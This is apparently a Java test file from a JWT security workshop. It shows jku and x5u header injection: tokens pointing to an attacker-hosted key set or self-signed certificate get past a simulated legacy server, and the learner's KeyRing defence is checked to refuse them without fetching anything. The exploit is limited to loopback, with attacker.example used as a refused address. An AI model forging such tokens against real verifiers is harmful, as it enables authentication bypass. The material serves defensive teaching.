package workshop.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.Signature;
import java.security.cert.CertificateFactory;
import java.security.cert.X509Certificate;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import workshop.katasupport.ExpectThrow;
import workshop.simulator.MutableClock;
import workshop.simulator.SimulatorExtension;
import workshop.simulator.legacy.AttackerServer;
import workshop.simulator.legacy.LegacyJwtServer;

@Order(7)
@DisplayName("A7 · jku and x5u injection: a token that points to the attacker's key")
class JkuInjectionTest {

    static final MutableClock clock = MutableClock.atWorkshopStart();
    static AttackerServer attacker;

    @RegisterExtension
    static final SimulatorExtension legacy = SimulatorExtension.of(LegacyJwtServer::start, clock);

    @BeforeAll
    static void startAttacker() {
        attacker = AttackerServer.start(clock);
    }

    @AfterAll
    static void stopAttacker() {
        attacker.close();
    }

    static String forgedAndPublished(String real) {
        URI where = attacker.server().uri("/.well-known/jwks.json");
        KeyInjection.Linked linked = KeyInjection.jku(real, where);
        attacker.publish("/.well-known/jwks.json", "application/json", linked.jwks());
        return linked.token();
    }

    static String certifiedAndPublished(String real) {
        URI where = attacker.server().uri("/certs/attacker.pem");
        KeyInjection.Certified certified = KeyInjection.x5u(real, where);
        attacker.publish("/certs/attacker.pem", "application/x-pem-file", certified.pem());
        return certified.token();
    }

    @Test
    @Order(1)
    @DisplayName("A7 · exploit: jku names the attacker's JWKS; the legacy server fetches it and opens the admin page")
    void exploit() {
        String real = Lab.login(legacy, "a7");
        attacker.clearRequests();
        String forged = forgedAndPublished(real);
        assertThat(Jwt.header(forged)).as("alg RS256, kid attacker-key, jku the attacker's address%s", Lab.show(forged))
                .containsEntry("alg", "RS256").containsEntry("kid", "attacker-key")
                .containsEntry("jku", attacker.server().uri("/.well-known/jwks.json").toString());
        Lab.assertBreaksIn(legacy, "a7", forged, "the a7 endpoint downloads the key set the token names (RFC 7515 4.1.2"
                + " jku) and trusts it. PortSwigger: 'JWT authentication bypass via jku header injection'");
        assertThat(attacker.requests()).as("the legacy server fetched the attacker's JWKS")
                .containsExactly("GET /.well-known/jwks.json");
    }

    @Test
    @Order(2)
    @DisplayName("A7 · defence: your KeyRing refuses the token (UNKNOWN_KEY) and the attacker's server receives ZERO requests")
    void defence() {
        String real = Lab.login(legacy, "a7");
        String forged = forgedAndPublished(real);
        attacker.clearRequests();
        KeyRing ring = new KeyRing(Map.of(Lab.control(legacy).kid("a7"), new TrustedKey("RS256", Lab.control(legacy).publicKey("a7"))));
        assertThat(ring.verify(real)).as("the real token%s", Lab.show(real)).containsEntry("role", "user");
        Lab.assertRejected(() -> ring.verify(forged), TokenRejected.Reason.UNKNOWN_KEY, forged,
                "kid attacker-key is not in your configuration, and a verifier never follows jku or x5u to find one: keys"
                        + " come only from configuration, or from a JWKS address that is itself configured (RFC 8725 3.10)");
        assertThat(attacker.requests()).as("a defence that fetched jku (even to refuse afterwards) has already made a"
                + " request for the attacker — server-side request forgery. The attacker's server must see nothing").isEmpty();
    }

    @Test
    @Order(3)
    @DisplayName("A7 · the exploit refuses a jku that is not on loopback (NotLoopback)")
    void loopbackOnly() {
        String real = Lab.login(legacy, "a7");
        ExpectThrow.expect(NotLoopback.class, "KeyInjection.jku(token, URI.create(\"https://attacker.example/jwks.json\"))",
                () -> KeyInjection.jku(real, URI.create("https://attacker.example/jwks.json")),
                "kit policy: the demo's key set is served on this machine only — call Loopback.require(jwksUrl)");
    }

    @Test
    @Order(4)
    @DisplayName("A7 · exploit: x5u names a self-signed certificate on the attacker's server; the legacy server trusts its key")
    void x5uExploit() throws Exception {
        String real = Lab.login(legacy, "a7");
        URI where = attacker.server().uri("/certs/attacker.pem");
        KeyInjection.Certified certified = KeyInjection.x5u(real, where);
        String forged = certified.token();
        assertThat(Jwt.header(forged)).as("alg RS256, the original kid, x5u the attacker's address%s", Lab.show(forged))
                .containsEntry("alg", "RS256").containsEntry("kid", Lab.control(legacy).kid("a7"))
                .containsEntry("x5u", where.toString()).doesNotContainKey("jku");
        assertThat(certified.pem()).as("x5u names a PEM certificate (RFC 7515 4.1.5, RFC 7468 5): what you publish must"
                + " start with -----BEGIN CERTIFICATE-----").startsWith("-----BEGIN CERTIFICATE-----");
        X509Certificate certificate = (X509Certificate) CertificateFactory.getInstance("X.509")
                .generateCertificate(new ByteArrayInputStream(certified.pem().getBytes(StandardCharsets.US_ASCII)));
        assertThat(verifies(forged, certificate)).as("the forged token must be signed with the private key of the"
                + " certificate you publish (SelfSignedCertificate.keyPair()), else no server can check it with that"
                + " certificate").isTrue();
        attacker.clearRequests();
        attacker.publish("/certs/attacker.pem", "application/x-pem-file", certified.pem());
        Lab.assertBreaksIn(legacy, "a7", forged, "the a7 endpoint downloads the certificate the token names (RFC 7515"
                + " 4.1.5 x5u) and trusts its key without asking who issued it — a self-signed certificate is nobody's"
                + " word. PortSwigger's jku lab with a certificate instead of a JWKS");
        assertThat(attacker.requests()).as("the legacy server fetched the attacker's certificate")
                .containsExactly("GET /certs/attacker.pem");
    }

    @Test
    @Order(5)
    @DisplayName("A7 · defence: your KeyRing ignores x5u (BAD_SIGNATURE under the configured key) and the attacker's server receives ZERO requests")
    void x5uDefence() {
        String real = Lab.login(legacy, "a7");
        String forged = certifiedAndPublished(real);
        attacker.clearRequests();
        KeyRing ring = new KeyRing(Map.of(Lab.control(legacy).kid("a7"), new TrustedKey("RS256", Lab.control(legacy).publicKey("a7"))));
        assertThat(ring.verify(real)).as("the real token%s", Lab.show(real)).containsEntry("role", "user");
        Lab.assertRejected(() -> ring.verify(forged), TokenRejected.Reason.BAD_SIGNATURE, forged,
                "the kid selects YOUR configured key and the signature fails under it; x5u is never fetched — and even"
                        + " a fetched certificate proves nothing until a chain to a trust anchor is validated (RFC 7515"
                        + " 4.1.5; RFC 8725 3.10; OWASP JWT cheat sheet)");
        assertThat(attacker.requests()).as("a defence that fetched x5u (even to refuse afterwards) has already made a"
                + " request for the attacker — server-side request forgery. The attacker's server must see nothing").isEmpty();
    }

    @Test
    @Order(6)
    @DisplayName("A7 · the x5u exploit refuses an address that is not on loopback (NotLoopback)")
    void x5uLoopbackOnly() {
        String real = Lab.login(legacy, "a7");
        ExpectThrow.expect(NotLoopback.class, "KeyInjection.x5u(token, URI.create(\"https://attacker.example/cert.pem\"))",
                () -> KeyInjection.x5u(real, URI.create("https://attacker.example/cert.pem")),
                "kit policy: the demo's certificate is served on this machine only — call Loopback.require(certificateUrl)"
                        + " before you make anything");
    }

    private static boolean verifies(String token, X509Certificate certificate) throws Exception {
        Signature signature = Signature.getInstance("SHA256withRSA");
        signature.initVerify(certificate.getPublicKey());
        signature.update(Jwt.signingInput(token));
        return signature.verify(Jwt.signature(token));
    }
}
